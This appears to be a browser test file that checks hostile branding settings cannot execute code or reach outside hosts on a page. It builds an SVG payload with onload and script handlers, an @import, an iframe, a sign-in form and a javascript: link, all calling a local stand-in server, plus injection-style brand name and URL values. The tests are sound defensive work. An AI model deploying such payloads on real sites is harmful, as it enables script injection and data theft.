/** What a brand could do to a page, and does not. In a real Chromium. */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
import { checkPage } from '../../support/page-checks.ts'
import { browserPath, startWorld, type World } from '../pages/support/world.ts'

setDefaultTimeout(300_000)

let asked = 0
const elsewhere = Bun.serve({
  hostname: '127.0.0.1',
  port: 0,
  fetch: () => {
    asked += 1
    return new Response('x')
  },
})
const E = elsewhere.url.origin
const EVIL = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 20" onload="fetch('${E}/onload');document.documentElement.setAttribute('data-evil','1')">
<style>@import url(${E}/style.css); rect { fill: url(${E}/fill.svg#a) }</style>
<script>fetch('${E}/script');document.documentElement.setAttribute('data-evil','1')</script>
<script href="${E}/outside.js"/>
<image href="${E}/image.png" width="10" height="10"/><use href="${E}/use.svg#a"/>
<foreignObject width="20" height="20"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${E}/frame"></iframe><form xmlns="http://www.w3.org/1999/xhtml" action="${E}/form"><button>Sign in</button></form></foreignObject>
<a href="javascript:document.documentElement.setAttribute('data-evil','1')"><rect id="bait" width="40" height="20" fill="#0f766e"/></a></svg>`
const svg = (text: string) => `data:image/svg+xml;base64,${Buffer.from(text).toString('base64')}`

describe.skipIf(!browserPath)('in Chromium (needs chromium on PATH)', () => {
  let w: World
  beforeAll(async () => {
    w = await startWorld({
      BRAND_NAME: `'&amp;{x}$(1)\${2} ${'W'.repeat(40)}`,
      BRAND_COLOR: '#ffee00',
      BRAND_LOGO: svg(EVIL),
      BRAND_FAVICON: svg(EVIL),
      BRAND_CSS: '--radius: 2rem; --font: "Courier New", monospace; --page: #fffbeb; --page-dark: #000000',
      TERMS_URL: 'https://acme.example/terms?a=1&b="<x>',
      PRIVACY_URL: 'https://acme.example/privacy',
      SUPPORT_URL: 'help@acme.example',
    })
  })
  afterAll(async () => {
    await w?.stop()
    await elsewhere.stop(true)
  })

  test('a logo that is hostile is a picture, and a long name is text', async () => {
    const { page, complaints, requests, leave } = await w.visit()
    await page.goto(w.origin)
    const logo = page.locator('.brand img')
    expect(await logo.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth > 0)).toBe(true)
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the hostile name has it
    expect(await page.locator('.brand').textContent()).toContain("'&amp;{x}$(1)${2}")
    expect(await page.locator('[data-evil]').count()).toBe(0)
    const links = await page
      .locator('footer a[rel=noreferrer]')
      .evaluateAll((all) => all.map((a) => a.getAttribute('href')))
    expect(links).toEqual([
      'https://acme.example/terms?a=1&b=%22%3Cx%3E',
      'https://acme.example/privacy',
      'mailto:help@acme.example',
    ])
    expect(await checkPage(page, 'home-branded')).toEqual([])
    expect(requests.map((request) => new URL(request.url()).origin).filter((origin) => origin !== w.origin)).toEqual([])
    expect([asked, complaints]).toEqual([0, []])
    await leave()
  })

  test('opened on its own, it is a file to save and no page of ours; and it has no rights', async () => {
    const { page, leave } = await w.visit()
    for (const path of ['/branding/logo', '/branding/favicon']) {
      const { headers } = await fetch(w.origin + path)
      expect(Object.fromEntries(headers)).toMatchObject({
        'content-type': 'image/svg+xml',
        'content-disposition': 'attachment',
        'x-content-type-options': 'nosniff',
        'cross-origin-resource-policy': 'same-origin',
      })
      expect(headers.get('content-security-policy')).toMatch(/^default-src 'none'.*sandbox$/)
      const saved = page.waitForEvent('download')
      await page.goto(w.origin + path).catch(() => undefined) // nothing is shown
      await (await saved).cancel()
      expect(page.url()).toBe('about:blank')
    }
    expect(asked).toBe(0)
    await leave()
  })

  test('a page of another origin cannot show the logo', async () => {
    const { page, leave } = await w.visit()
    using thief = Bun.serve({ hostname: '127.0.0.1', port: 0, fetch: () => new Response('x') })
    await page.goto(thief.url.href)
    await page.setContent(`<img id="stolen" src="${w.origin}/branding/logo">`)
    await page.waitForFunction(() => (document.getElementById('stolen') as HTMLImageElement).complete)
    const width = await page.locator('#stolen').evaluate((image: HTMLImageElement) => image.naturalWidth)
    expect(width).toBe(0)
    await leave()
  })
})
